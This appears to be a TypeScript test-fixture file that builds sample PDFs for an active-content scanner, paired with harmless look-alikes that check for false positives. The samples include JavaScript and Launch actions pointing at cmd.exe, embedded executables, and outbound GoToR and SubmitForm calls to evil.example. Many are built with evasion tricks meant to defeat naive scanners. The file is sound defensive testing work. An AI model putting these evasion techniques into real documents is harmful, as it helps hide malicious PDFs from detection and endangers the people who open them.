import { deflateSync } from 'node:zlib';
import { objectStream, pdfWith, stream } from './pdf-parts.ts';

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const inPage = (entries: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] ${entries} >>`;

/** Scripts, launch actions and embedded files in plain form. */
const plain: [string, Buffer][] = [
  ['OpenAction script', pdfWith({ catalog: `/OpenAction ${SCRIPT}` })],
  ['OpenAction script by reference', pdfWith({ catalog: '/OpenAction 4 0 R', objects: [SCRIPT] })],
  ['script without a type', pdfWith({ catalog: '/OpenAction 4 0 R', objects: ['<< /JS (x) >>'] })],
  ['script in a stream', pdfWith({ objects: ['<< /S /JavaScript /JS 5 0 R >>', stream('', 'app.alert(1)')] })],
  ['script in the name tree', pdfWith({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` })],
  ['script of a page action', pdfWith({ page: inPage(`/AA << /O ${SCRIPT} >>`) })],
  ['action of a page', pdfWith({ page: inPage('/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>') })],
  ['launch', pdfWith({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  [
    'launch by a link',
    pdfWith({ page: inPage('/Annots [<< /Type /Annot /Subtype /Link /A << /S /Launch /F (a.exe) >> >>]') }),
  ],
  [
    'launch, its type by reference',
    pdfWith({ catalog: '/OpenAction << /S 4 0 R /F (cmd.exe) >>', objects: ['/Launch'] }),
  ],
  ['embedded file', pdfWith({ catalog: '/Names << /EmbeddedFiles 4 0 R >>' })],
  [
    'embedded file by its file specification',
    pdfWith({ objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', stream('', 'MZ')] }),
  ],
  ['file attachment annotation', pdfWith({ page: inPage('/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>]') })],
  [
    'GoToR to a file share',
    pdfWith({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit] >>' }),
  ],
  ['SubmitForm', pdfWith({ objects: ['<< /S /SubmitForm /F << /FS /URL /F (http://evil.example) >> >>'] })],
  ['ImportData', pdfWith({ objects: ['<< /S /ImportData /F (a.fdf) >>'] })],
  ['XFA form', pdfWith({ catalog: '/AcroForm << /XFA 4 0 R >>' })],
  ['rich media', pdfWith({ page: inPage('/Annots [<< /Subtype /RichMedia >>]') })],
  ['script in the trailer', pdfWith({ trailer: `/X ${SCRIPT}` })],
];

/** Disguised so that a plain text search does not find them. */
const disguised: [string, Buffer][] = [
  ['escaped name', pdfWith({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' })],
  ['completely escaped names', pdfWith({ catalog: '/#4f#70#65#6e#41ction << /#4a#53 (x) >>' })],
  ['no white space', pdfWith({ catalog: '/OpenAction<</S/JavaScript/JS(x)>>' })],
  ['other white space', pdfWith({ catalog: '/OpenAction\0<<\f/S\t/JavaScript\r/JS\0(x)>>' })],
  ['comments between tokens', pdfWith({ catalog: '/OpenAction %a\n<< %b\r/S%c\n/JavaScript%d\n/JS%e\n(x) >>' })],
  ['comment in the object header', pdfWith({ loose: `4 0 %x\nobj %(\n${SCRIPT}\nendobj\n` })],
  ['no space before obj', pdfWith({ loose: `4 0obj${SCRIPT}endobj\n` })],
  ['after an unterminated string', pdfWith({ objects: ['(never', SCRIPT] })],
  ['object inside a string', pdfWith({ objects: [`(4 0 obj ${SCRIPT} endobj)`] })],
  ['object inside a comment', pdfWith({ loose: `% 4 0 obj ${SCRIPT} endobj\n` })],
  ['object inside a stream', pdfWith({ objects: [stream('', `4 0 obj ${SCRIPT} endobj`, false)] })],
  ['after an object header in a string', pdfWith({ objects: ['<< /T (1 0 obj \\(% ) /JS (x) >>'] })],
  ['after an object header in a comment', pdfWith({ objects: ['<< %1 0 obj (\n /JS (x) >>'] })],
  ['after a stream with a wrong length', pdfWith({ objects: ['<< /Length 9999 >>\nstream\nx\nendstream', SCRIPT] })],
  ['after an unmatched >>', pdfWith({ objects: ['<< /X >> endobj /JS (x) >>'] })],
  ['after a mismatched bracket', pdfWith({ objects: ['<< /X ] endobj /JS (x) >>'] })],
  ['in an array after keywords', pdfWith({ objects: [`[1 stream endobj ${SCRIPT}]`] })],
  [
    'in an incremental update',
    Buffer.concat([pdfWith({}), Buffer.from(`4 0 obj\n${SCRIPT}\nendobj\ntrailer\n<<>>\n%%EOF\n`)]),
  ],
];

/** An object stream with a script and these dictionary entries. */
const scriptStream = (dictionary: (first: number, count: number) => string) => objectStream([SCRIPT], { dictionary });

/** Inside object streams. */
const objectStreams: [string, Buffer][] = [
  ['object stream', pdfWith({ objects: [objectStream(['<< /A 1 >>', SCRIPT])] })],
  [
    'object stream with a name tree',
    pdfWith({ objects: [objectStream(['<< /Names [(a) 21 0 R] >>', '<< /J#53 (x) >>'])] }),
  ],
  ['object stream with a launch action', pdfWith({ objects: [objectStream(['<< /S /Launch /F (a.exe) >>'])] })],
  [
    'object stream without its type',
    pdfWith({ objects: [scriptStream((first, count) => `/N ${count} /First ${first}`)] }),
  ],
  [
    'object stream, its type by reference',
    pdfWith({ objects: [scriptStream((first, count) => `/Type 9 0 R /N ${count} /First ${first}`)] }),
  ],
  [
    'object stream, its entries by reference',
    pdfWith({ objects: [scriptStream(() => '/Type /ObjStm /N 8 0 R /First 9 0 R')] }),
  ],
  [
    'object stream with two /First entries',
    pdfWith({ objects: [scriptStream((first, count) => `/Type /ObjStm /N ${count} /First 0 /First ${first}`)] }),
  ],
  [
    'object stream with an offset inside a string',
    pdfWith({ objects: [objectStream([`(never ${SCRIPT}`], { offsets: () => [7] })] }),
  ],
  [
    'object stream with an offset inside a comment',
    pdfWith({ objects: [objectStream([`% ${SCRIPT}`], { offsets: () => [2] })] }),
  ],
  [
    'object stream with LZW',
    pdfWith({ objects: [scriptStream((first) => `/Type /ObjStm /N 1 /First ${first} /Filter /LZWDecode`)] }),
  ],
  ['object stream with two filters', pdfWith({ objects: [doublyCompressed()] })],
  ['object stream without a filter', pdfWith({ objects: [objectStream([SCRIPT], { packed: false })] })],
  [
    'corrupt object stream',
    pdfWith({ objects: [objectStream(['<< /A 1 >>']).replace(/stream\n.{6}/s, 'stream\nbroken')] }),
  ],
  ['encrypted object stream', pdfWith({ trailer: '/Encrypt 9 0 R', objects: [encrypted()] })],
  [
    'object stream with a ratio of 1,000:1',
    pdfWith({ objects: [stream('/Type /ObjStm /N 1 /First 4', `1 0 ${' '.repeat(10 * 1024 * 1024)}`)] }),
  ],
];

/** An object stream that is compressed twice. */
function doublyCompressed(): string {
  const bytes = deflateSync(deflateSync(Buffer.from(`20 0 ${SCRIPT}`)));
  return `<< /Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode] >>\nstream\n${bytes.toString('latin1')}\nendstream`;
}

/** An encrypted stream, which cannot be inspected. */
function encrypted(): string {
  return stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.alloc(64, 0x9b), false);
}

/** PDFs with active content. */
export const ACTIVE_PDFS: readonly [name: string, bytes: Buffer][] = [...plain, ...disguised, ...objectStreams];

const LINK =
  '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://city.example/JS/AA/Launch?a=\\(1\\)) >> >>';

/** Harmless PDFs with content that a naive check takes for active. */
export const ORDINARY_PDFS: readonly [name: string, bytes: Buffer][] = [
  ['links', pdfWith({ page: inPage(`/Annots [${LINK}]`) })],
  ['OpenAction with a destination', pdfWith({ catalog: '/OpenAction [3 0 R /FitH null] /PageMode /UseOutlines' })],
  [
    'OpenAction with a GoTo action',
    pdfWith({ catalog: '/OpenAction << /S /GoTo /D (start) >> /ViewerPreferences << /DisplayDocTitle true >>' }),
  ],
  [
    'names of actions in the metadata',
    pdfWith({ objects: ['<< /Title (How /JS and /JavaScript /Launch \\( work) /Author <2F4A53> >>'] }),
  ],
  [
    'names of actions in the page content',
    pdfWith({ objects: [stream('', 'BT (/JS /Launch << /AA >>) Tj ET', false)] }),
  ],
  ['names of actions in a comment', pdfWith({ loose: '% made by /JavaScript /JS, so to say\n' })],
  [
    'fonts and pictures',
    pdfWith({ page: inPage('/Resources << /Font << /F1 4 0 R /TT1 4 0 R >> /XObject << /Im0 5 0 R >> >>') }),
  ],
  ['a colour profile', pdfWith({ objects: [stream('/N 3 /Alternate /DeviceRGB', 'profile')] })],
  ['outlines', pdfWith({ objects: ['<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>'] })],
  [
    'object stream with a link',
    pdfWith({
      objects: [
        objectStream(['<< /Type /Annot /A << /S /URI /URI (http://a/JS/) >> >>', '[1 2 0 R]', '(a)', '12', '/Name']),
      ],
    }),
  ],
  [
    'object stream with its filter in an array',
    pdfWith({ objects: [objectStream(['<< >>']).replace('/Filter /FlateDecode', '/Filter [/FlateDecode]')] }),
  ],
  [
    'a fillable form',
    pdfWith({
      catalog: '/AcroForm << /Fields [4 0 R] /DA (/Helv 0 Tf) >>',
      objects: ['<< /FT /Tx /T (name) /V () >>'],
    }),
  ],
  [
    'a signature',
    pdfWith({ objects: ['<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 9 9 9] /Contents <00> >>'] }),
  ],
  [
    'an incremental update',
    Buffer.concat([pdfWith({}), Buffer.from('3 0 obj\n<< /Type /Page >>\nendobj\ntrailer\n<< /Prev 9 >>\n%%EOF\n')]),
  ],
];
